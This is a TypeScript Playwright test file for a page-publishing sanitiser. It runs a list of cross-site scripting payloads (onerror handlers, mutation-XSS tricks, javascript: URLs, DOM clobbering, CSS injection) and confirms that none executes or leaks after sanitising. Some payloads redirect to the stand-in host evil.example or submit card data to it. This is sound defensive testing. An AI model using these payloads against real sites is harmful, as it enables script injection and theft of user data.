import type { Browser, Page } from 'playwright-core';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { formStyles } from '@tributary/form-engine/html/styles.ts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchBrowser } from '@tributary/tools/testing/browser.ts';
import { BASE_STYLES } from '../styles/base-styles.ts';
import { assemble, type Artifact } from '../artifact.ts';
import { compilePage } from '../compile.server.ts';

/** Each tries to call `hit()`, to leave the page, or to send something elsewhere. */
const ATTACKS = [
  '<script>hit(1)</script>',
  '<img src=x onerror=hit(2)>',
  '<svg onload=hit(3)><script>hit(3)</script></svg>',
  '<svg><animate onbegin=hit(4) attributeName=x dur=1s></svg>',
  '<svg><set attributeName=onmouseover to=hit(5)><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=hit(5)>#x"/></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit(6)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit(7)>',
  '<svg></p><style><a id="</style><img src=1 onerror=hit(8)>">',
  '<noscript><p title="</noscript><img src=x onerror=hit(9)>">',
  '<p title="</textarea></title></style><img src=x onerror=hit(10)>">x</p>',
  '<textarea></textarea><img src=x onerror=hit(11)></textarea>',
  '<iframe srcdoc="<script>parent.hit(12)</script>"></iframe><iframe src="javascript:parent.hit(12)"></iframe>',
  '<a href="javascript:hit(13)" class="click">x</a><a href="jAvAsC\tript:hit(13)" class="click">x</a>',
  '<a href="&#106;avascript&colon;hit(14)" class="click">x</a>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<form action="https://evil.example/" class=steal><input name=card value=4242><button class="click">x</button></form>',
  '<button form="tf-f1" formaction="https://evil.example/" class="click">x</button>',
  '<object data="data:text/html,<script>parent.hit(15)</script>"></object><embed src="javascript:hit(15)">',
  '<link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example/y.css";</style>',
  '<div style="background:url(javascript:hit(16));width:expression(hit(16))">x</div>',
  '<details open ontoggle=hit(17)><summary>x</summary></details><video src=x onerror=hit(17)></video>',
  '<xmp><p title="</xmp><img src=x onerror=hit(18)>"></xmp><plaintext><img src=x onerror=hit(18)>',
  '<template><img src=x onerror=hit(19)></template><select><option><img src=x onerror=hit(19)></select>',
  '<img name=cookie id=getElementById><a id=body><a id=body name=forms>x</a><form id=hit name=hit></form>',
  '<p is="x-y" onclick="hit(20)" class="click">x</p><p autofocus tabindex=1 onfocus=hit(20)>x</p>',
  '<div data-tributary-form="x&quot;><img src=x onerror=hit(21)>">x</div>',
  '<h1 id="</style><img src=x onerror=hit(22)>" class="&quot;><img src=x onerror=hit(22)>">x</h1>',
];

const HOSTILE_CSS =
  '</style><script>hit(30)</script> a{content:"</style><img src=x onerror=hit(31)>"} @import "https://evil.example/z.css";';

function compile(html: string, css = ''): Artifact {
  return compilePage({
    tenantId: 't1',
    page: {
      id: 'p1',
      slug: 'x',
      name: '</title><script>hit(40)</script>',
      language: 'en-US',
      html,
      css,
      metadata: { title: '</title><script>hit(41)</script>', description: '"><script>hit(42)</script>' },
    },
    forms: new Map([['f1', '<form class="tf" id="tf-f1" action="/own" method="post"></form>']]),
    counters: new Map(),
    styles: { base: BASE_STYLES, form: formStyles },
    script: "document.documentElement.dataset.formScript='ran'",
    origin: 'https://river.example',
    siteName: '<script>hit(43)</script>',
    paymentOrigins: [],
    now: new Date(),
  });
}

let browser: Browser;
let server: Server;
let current: { html: string; csp: string | undefined };
let address: string;

beforeAll(async () => {
  browser = await launchBrowser();
  server = createServer((_request, response) => {
    response.setHeader('Content-Type', 'text/html; charset=utf-8');
    if (current.csp) response.setHeader('Content-Security-Policy', current.csp);
    response.end(current.html);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  address = `http://127.0.0.1:${(server.address() as AddressInfo).port}/x`;
});
afterAll(async () => {
  await browser.close();
  server.closeAllConnections();
  server.close();
});

/** A browser window that records scripts that ran, navigations, and violations of the policy. */
async function openWindow() {
  const context = await browser.newContext();
  const seen = { hits: [] as unknown[], foreign: [] as string[], complaints: [] as string[] };
  await context.exposeFunction('hit', (value: unknown) => seen.hits.push(value));
  await context.route('**/*', (route) => {
    const url = route.request().url();
    if (url.startsWith(address.slice(0, -1)) || url.startsWith('data:')) return route.continue();
    seen.foreign.push(url);
    return route.abort();
  });
  const page = await context.newPage();
  page.on('dialog', (dialog) => void dialog.dismiss());
  page.on('console', (message) => {
    if (message.text().includes('Content Security Policy')) seen.complaints.push(message.text());
  });
  return { context, page, seen };
}

/** Opens `current`, clicks everything clickable, and waits for scripts to run. */
async function visit(page: Page): Promise<void> {
  await page.goto(address);
  for (const link of await page.locator('.click').all()) {
    await link.click({ force: true, timeout: 1_000 }).catch(() => undefined);
  }
  await page.waitForTimeout(60);
}

describe('hostile markup in a real browser', () => {
  it('would run without publishing', async () => {
    const { context, page, seen } = await openWindow();
    current = { html: `<!doctype html>${ATTACKS[1]}`, csp: undefined };
    await visit(page);
    expect(seen.hits).toEqual([2]);
    await context.close();
  });

  it('never runs after sanitising, even without a policy', { timeout: 90_000 }, async () => {
    const { context, page, seen } = await openWindow();
    // Each also separately: one attack's open element must not hide another.
    for (const attack of [ATTACKS.join('\n'), ...ATTACKS]) {
      const artifact = compile(`<p>before</p>${attack}<p>after</p>`, HOSTILE_CSS);
      current = { html: assemble(artifact, new Map()), csp: undefined };
      await visit(page);
      expect({ attack, ...seen }).toEqual({ attack, hits: [], foreign: [], complaints: [] });
      expect(page.url(), attack).toContain(address);
    }
    await context.close();
  });

  it('keeps the page’s own form, script and style working under the policy, without a violation', async () => {
    const { context, page, seen } = await openWindow();
    const artifact = compile(
      `<div data-tributary-form="f1"></div><section class="ts-section" style="color: rgb(1, 2, 3)">${ATTACKS.join('')}`,
      HOSTILE_CSS,
    );
    current = { html: assemble(artifact, new Map()), csp: artifact.csp };
    await visit(page);
    const found = await page.evaluate(() => ({
      script: document.documentElement.dataset['formScript'],
      colour: getComputedStyle(document.querySelector('.ts-section')!).color,
      forms: document.forms.length,
      intact: document.body instanceof HTMLBodyElement && typeof document.getElementById === 'function',
    }));
    expect(found).toEqual({ script: 'ran', colour: 'rgb(1, 2, 3)', forms: 1, intact: true });
    expect(seen).toEqual({ hits: [], foreign: [], complaints: [] });
    await context.close();
  });
});
